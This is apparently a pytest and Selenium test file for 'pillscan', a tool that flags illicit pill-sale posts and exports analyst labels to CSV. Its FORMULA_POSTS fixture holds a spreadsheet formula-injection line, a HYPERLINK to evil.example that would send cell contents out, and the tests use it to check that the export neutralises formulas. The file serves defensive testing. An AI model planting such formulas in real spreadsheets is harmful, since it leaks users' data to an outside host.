"""The report in a real headless Chromium (Debian's chromium + chromedriver, driven by Selenium).

Scans data/samples, opens the report, filters, searches, labels posts with the buttons and the keyboard, checks
that the labels survive a reload, exports them, and feeds the export to ``pillscan evaluate`` and (slow)
``pillscan train --extra``. CI installs Chromium (.ci/run) and sets CI=true: there a missing browser fails the
test instead of skipping it.
"""

from __future__ import annotations

import csv
import os
import shutil
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pillscan.cli import main

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "data" / "samples"
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
DRIVER = shutil.which("chromedriver")


def _missing() -> str | None:
    try:
        import selenium  # noqa: F401
    except ImportError:
        return "selenium is not installed (pip install selenium)"
    if CHROMIUM is None or DRIVER is None:
        return "chromium and chromedriver are not installed (apt-get install chromium chromium-driver)"
    return None


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    reason = _missing()
    if reason:
        if os.environ.get("CI", "").lower() == "true":
            pytest.fail(f"browser test cannot run in CI: {reason}")
        pytest.skip(reason)
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    downloads = tmp_path_factory.mktemp("downloads")
    options = webdriver.ChromeOptions()
    options.binary_location = str(CHROMIUM)
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--window-size=1300,1400",
    ):
        options.add_argument(arg)
    options.add_experimental_option(
        "prefs", {"download.default_directory": str(downloads), "download.prompt_for_download": False}
    )
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(str(DRIVER)), options=options)
    driver.downloads = downloads  # type: ignore[attr-defined]
    try:
        yield driver
    finally:
        driver.quit()


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("scan")
    code = main(
        ["-q", "scan", str(SAMPLES), "-o", str(out / "out.jsonl"), "--report", str(out / "r.html"), "--workers", "1"]
    )
    assert code == 0
    return out / "r.html"


def _visible_rows(driver: Any) -> list[Any]:
    from selenium.webdriver.common.by import By

    return [tr for tr in driver.find_elements(By.CSS_SELECTOR, "#posts-body tr") if tr.is_displayed()]


def _select(driver: Any, element_id: str, value: str) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    Select(driver.find_element(By.ID, element_id)).select_by_value(value)


def _severe_logs(driver: Any) -> list[str]:
    return [e["message"] for e in driver.get_log("browser") if e["level"] == "SEVERE"]


def _wait_for_download(folder: Path, timeout: float = 10.0) -> Path:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        done = [p for p in folder.glob("pillscan-labels-*.csv") if not p.name.endswith(".crdownload")]
        if done:
            return done[0]
        time.sleep(0.1)
    raise AssertionError(f"no labels export appeared in {folder}: {list(folder.iterdir())}")


def test_filter_label_reload_export(browser: Any, report: Path, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By

    driver = browser
    driver.get(report.as_uri())
    driver.execute_script("window.localStorage.clear()")
    driver.refresh()
    assert _severe_logs(driver) == []  # no CSP violation, no script error
    all_rows = _visible_rows(driver)
    assert len(all_rows) == 14  # 14 offers and no review on the samples with the default model
    assert "14 of 14 rows match" in driver.find_element(By.ID, "shown").text

    _select(driver, "f-decision", "review")
    assert len(_visible_rows(driver)) == 0
    _select(driver, "f-decision", "offer")
    assert len(_visible_rows(driver)) == 14
    _select(driver, "f-decision", "")
    _select(driver, "f-drug", "amphetamine")
    rows = _visible_rows(driver)
    assert rows and all("amphetamine" in r.text for r in rows)
    _select(driver, "f-drug", "")
    search = driver.find_element(By.ID, "f-search")
    search.send_keys("M30s")
    rows = _visible_rows(driver)
    assert len(rows) == 1 and "M30s" in rows[0].text
    search.clear()
    search.send_keys(" ")  # an 'input' event with an empty query: everything again
    assert len(_visible_rows(driver)) == 14

    # Three labels: a button click, then the keyboard (j moves to the next post, n/o label it and move on).
    rows = _visible_rows(driver)
    texts = [r.find_element(By.CSS_SELECTOR, "td.post").text for r in rows[:3]]
    rows[0].find_element(By.CSS_SELECTOR, "button[data-label=offer]").click()
    body = driver.find_element(By.TAG_NAME, "body")
    driver.execute_script("document.activeElement.blur()")
    body.send_keys("j")  # the clicked row is current: j moves to the second
    body.send_keys("n")  # labels the second as not an offer, moves to the third
    body.send_keys("o")
    assert "2 offer, 1 not an offer, 0 skipped" in driver.find_element(By.ID, "label-counts").text

    driver.refresh()  # labels are kept in localStorage
    assert "2 offer, 1 not an offer" in driver.find_element(By.ID, "label-counts").text
    _select(driver, "f-decision", "labelled")
    assert len(_visible_rows(driver)) == 3

    driver.find_element(By.ID, "export").click()
    exported = _wait_for_download(driver.downloads)
    with open(exported, encoding="utf-8", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert [r["label"] for r in got].count("offer") == 2 and [r["label"] for r in got].count("not_offer") == 1
    assert sorted(r["text"].split()[0] for r in got) == sorted(t.split()[0] for t in texts)
    # The post's context goes with its label: who, where, on which platform, when, and the link back.
    assert list(got[0])[:12] == [
        "text", "label", "id", "source", "account", "channel", "platform", "created_at", "url", "score", "decision",
        "labelled_at",
    ]  # fmt: skip
    assert _severe_logs(driver) == []
    shutil.copy(exported, tmp_path / "labels.csv")

    # pillscan evaluate reads the export as it is.
    assert main(["evaluate", str(tmp_path / "labels.csv")]) == 0
    (report.parent / "labels.csv").write_bytes(exported.read_bytes())


FORMULA_POSTS = [
    '=HYPERLINK("http://evil.example/?"&A1,"oxy 30s blues, snap me, cashapp")',
    "+1 555 0100 xanax bars 2mg in stock, telegram @plug",
    "-30 for blues m30 today, snap me, cashapp",
    "@plug percs m30 ready, 1 for 30, cashapp",
    "'=already marked: xanax bars 2mg in stock, telegram @plug",
]


def test_exported_labels_are_inert_in_a_spreadsheet_and_read_back(browser: Any, tmp_path: Path) -> None:
    """Posts (and ids) that a spreadsheet would run as formulas: the export marks them with a leading ', and
    pillscan reads the export back as the original posts."""
    import json

    from selenium.webdriver.common.by import By

    from pillscan.labels import read_labels

    posts = tmp_path / "formulas.jsonl"
    posts.write_text("".join(json.dumps({"id": f"@{i}", "text": t}) + "\n" for i, t in enumerate(FORMULA_POSTS)))
    page = tmp_path / "r.html"
    assert main(["-q", "scan", str(posts), "-o", str(tmp_path / "o.jsonl"), "--report", str(page)]) == 0
    driver = browser
    driver.get(page.as_uri())
    driver.execute_script("window.localStorage.clear()")
    driver.refresh()
    rows = _visible_rows(driver)
    assert len(rows) == len(FORMULA_POSTS)
    for row in rows:
        row.find_element(By.CSS_SELECTOR, "button[data-label=offer]").click()
    for old in driver.downloads.glob("pillscan-labels-*.csv"):
        old.unlink()
    driver.find_element(By.ID, "export").click()
    exported = _wait_for_download(driver.downloads)
    with open(exported, encoding="utf-8", newline="") as fh:
        raw = list(csv.DictReader(fh))
    assert sorted(r["text"] for r in raw) == sorted("'" + t for t in FORMULA_POSTS)
    assert sorted(r["id"] for r in raw) == [f"'@{i}" for i in range(len(FORMULA_POSTS))]
    labels = read_labels(exported)
    assert sorted(labels.frame["text"]) == sorted(FORMULA_POSTS) and labels.offers == len(FORMULA_POSTS)
    assert sorted(labels.frame["id"]) == [f"@{i}" for i in range(len(FORMULA_POSTS))]
    assert _severe_logs(driver) == []


def test_tabs_and_overview(browser: Any, report: Path) -> None:
    from selenium.webdriver.common.by import By

    driver = browser
    driver.get(report.as_uri())
    driver.find_element(By.CSS_SELECTOR, "nav.tabs button[data-tab=overview]").click()
    images = [i for i in driver.find_elements(By.CSS_SELECTOR, "#tab-overview img") if i.is_displayed()]
    assert len(images) == 4 and all(driver.execute_script("return arguments[0].naturalWidth", i) > 0 for i in images)
    assert not _visible_rows(driver)
    driver.find_element(By.CSS_SELECTOR, "nav.tabs button[data-tab=accounts]").click()
    assert driver.find_element(By.ID, "accounts-table").is_displayed()
    shot = os.environ.get("PILLSCAN_SCREENSHOT_DIR")
    if shot:  # (how docs/report-screenshot.png is made)
        driver.find_element(By.CSS_SELECTOR, "nav.tabs button[data-tab=posts]").click()
        driver.save_screenshot(str(Path(shot) / "report-posts.png"))
    assert _severe_logs(driver) == []


@pytest.mark.slow
def test_exported_labels_retrain(browser: Any, report: Path, tmp_path: Path) -> None:
    labels = report.parent / "labels.csv"
    if not labels.exists():
        pytest.skip("needs the export of test_filter_label_reload_export")
    out = tmp_path / "m.joblib"
    code = main(["-q", "train", "--n", "1500", "--extra", str(labels), "-o", str(out)])
    assert code == 0 and out.exists()
    import json

    card = json.loads(out.with_suffix(".json").read_text())
    (extra,) = card["training"]["extra"]
    assert extra["rows_used"] == 3 and extra["rows"] == 3 and len(extra["sha256"]) == 64


def test_accounts_tab_and_links_back_to_the_posts(
    browser: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An X archive, a Telegram channel and a CSV with usernames scanned with --group-by author: each flagged post
    links back to where it was posted, the accounts tab lists who posted them, and an account's button shows
    its posts (issue 13)."""
    from selenium.webdriver.common.by import By

    import pillscan.model as model_module
    from conftest import FakeModel, telegram_export, usernames_csv, x_archive_export

    model = FakeModel()
    monkeypatch.setattr(model_module, "load_model", lambda path=None, trust=False: model)
    folder = tmp_path / "exports"
    x_archive_export(folder / "x")
    telegram_export(folder / "result.json", username="bluemarket")
    usernames_csv(folder / "export.csv")
    page, accounts = tmp_path / "r.html", tmp_path / "accounts.csv"
    args = ["-q", "scan", str(folder), "-o", str(tmp_path / "o.jsonl"), "--report", str(page), "--workers", "1"]
    assert main([*args, "--group-by", "author", "--accounts", str(accounts)]) == 0
    driver = browser
    driver.get(page.as_uri())
    assert _severe_logs(driver) == []
    links = {a.get_attribute("href") for a in driver.find_elements(By.CSS_SELECTOR, "#posts-body td.where a")}
    assert {
        "https://x.com/i/status/1699000000000000001",
        "https://t.me/bluemarket/2",
        "https://t.me/bluemarket/3",
        "https://x.com/plug_one/status/11",
    } <= links
    assert not any(h.startswith("javascript") for h in links)
    driver.find_element(By.CSS_SELECTOR, "button[data-tab=accounts]").click()
    names = [b.text for b in driver.find_elements(By.CSS_SELECTOR, "#accounts-table button[data-account]")]
    assert {"bluepharm_", "Blue Market", "plug_one"} <= set(names)
    assert len(names) == len(accounts.read_text(encoding="utf-8").splitlines()) - 1  # (the same accounts as the file)
    examples = {a.get_attribute("href") for a in driver.find_elements(By.CSS_SELECTOR, "#accounts-table a")}
    assert "https://x.com/plug_one/status/11" in examples
    driver.find_element(By.CSS_SELECTOR, "#accounts-table button[data-account='plug_one']").click()
    rows = _visible_rows(driver)
    assert len(rows) == 2 and all("plug_one" in r.text for r in rows)
    assert _severe_logs(driver) == []


def _report_rows(report: Path) -> list[dict[str, Any]]:
    """The flagged rows of the scan behind ``report`` (its output, out.jsonl, beside it)."""
    import json

    lines = (report.parent / "out.jsonl").read_text(encoding="utf-8").splitlines()
    return [r for r in map(json.loads, lines) if r["decision"] in ("offer", "review")]


def _scores(driver: Any) -> list[float]:
    from selenium.webdriver.common.by import By

    return [float(r.find_elements(By.CSS_SELECTOR, "td.num")[1].text.split()[0]) for r in _visible_rows(driver)]


def test_sort_signal_and_source_filters_and_the_other_keys(browser: Any, report: Path) -> None:
    """What test_filter_label_reload_export leaves out: sorting by score both ways, the signal and source
    filters, and the keys s (skip), k (back), x (clear) and / (search)."""
    from selenium.webdriver.common.by import By

    driver = browser
    driver.get(report.as_uri())
    driver.execute_script("window.localStorage.clear()")
    driver.refresh()
    first = _scores(driver)
    assert first == sorted(first, reverse=True) and len(set(first)) > 1  # highest first by default
    header = driver.find_element(By.CSS_SELECTOR, "#posts th.sort[data-key=score]")
    header.click()
    assert _scores(driver) == sorted(first) and "asc" in (header.get_attribute("class") or "")
    header.click()
    assert _scores(driver) == first

    signals = [o.get_attribute("value") for o in driver.find_elements(By.CSS_SELECTOR, "#f-signal option")][1:]
    data = _report_rows(report)
    for signal in signals[:4]:  # the filter keeps exactly the rows whose evidence has the signal
        _select(driver, "f-signal", signal)
        expected = sum(signal in [s["name"] for s in r.get("signals") or []] for r in data)
        assert 0 < len(_visible_rows(driver)) == expected, signal
    _select(driver, "f-signal", "")
    sources = [o.get_attribute("value") for o in driver.find_elements(By.CSS_SELECTOR, "#f-source option")][1:]
    assert len(sources) >= 2
    counts = []
    for source in sources:
        _select(driver, "f-source", source)
        rows = _visible_rows(driver)
        counts.append(len(rows))
        assert all(Path(source).name in r.find_element(By.CSS_SELECTOR, "td.where").text for r in rows)
    assert sum(counts) == 14
    _select(driver, "f-source", "")

    body = driver.find_element(By.TAG_NAME, "body")
    rows = _visible_rows(driver)
    rows[0].find_element(By.CSS_SELECTOR, "button[data-label=offer]").click()  # row 1 current, labelled offer
    driver.execute_script("document.activeElement.blur()")
    body.send_keys("j")
    body.send_keys("s")  # row 2 skipped, row 3 current
    assert "1 offer, 0 not an offer, 1 skipped" in driver.find_element(By.ID, "label-counts").text
    body.send_keys("k")  # back to row 2
    body.send_keys("x")  # its label cleared
    assert "1 offer, 0 not an offer, 0 skipped" in driver.find_element(By.ID, "label-counts").text
    body.send_keys("k")  # row 1
    body.send_keys("x")
    assert "0 offer, 0 not an offer, 0 skipped" in driver.find_element(By.ID, "label-counts").text
    body.send_keys("/")
    assert driver.switch_to.active_element.get_attribute("id") == "f-search"
    assert _severe_logs(driver) == []
